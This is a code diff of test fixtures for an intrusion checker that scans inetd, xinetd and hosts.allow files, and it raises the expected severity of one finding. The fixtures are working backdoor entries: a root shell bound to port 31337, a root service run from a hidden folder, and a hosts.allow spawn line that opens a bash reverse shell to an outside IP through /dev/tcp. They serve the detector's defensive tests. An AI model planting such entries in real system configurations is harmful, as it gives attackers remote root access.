@@ -5,7 +5,7 @@ import { inetd, inetdServices, xinetdServices } from './check.ts';
 tellsOf(inetd, {
   rows: {
     'a shell behind a port': { files: { '/etc/inetd.conf': '#\nftp stream tcp nowait root /usr/sbin/tcpd /usr/sbin/vsftpd\n31337 stream tcp nowait root /bin/sh sh -i\n' }, finds: ['intrusion critical /etc/inetd.conf'] },
-    'a service of xinetd in a hidden folder': { files: { '/etc/xinetd.d/time-x': 'service time-x\n{\n  socket_type = stream\n  user = root\n  server = /usr/lib/.t/timed\n  disable = no\n}\n' }, finds: ['intrusion medium /etc/xinetd.d/time-x'] },
+    'a service of xinetd in a hidden folder': { files: { '/etc/xinetd.d/time-x': 'service time-x\n{\n  socket_type = stream\n  user = root\n  server = /usr/lib/.t/timed\n  disable = no\n}\n' }, finds: ['intrusion high /etc/xinetd.d/time-x'] },
     'a command for each connection': { files: { '/etc/hosts.allow': 'sshd: 198.51.100.9 : spawn (/bin/bash -i >& /dev/tcp/198.51.100.9/9001 0>&1) &\n' }, finds: ['intrusion critical /etc/hosts.allow'] },
   },
   ordinary: {
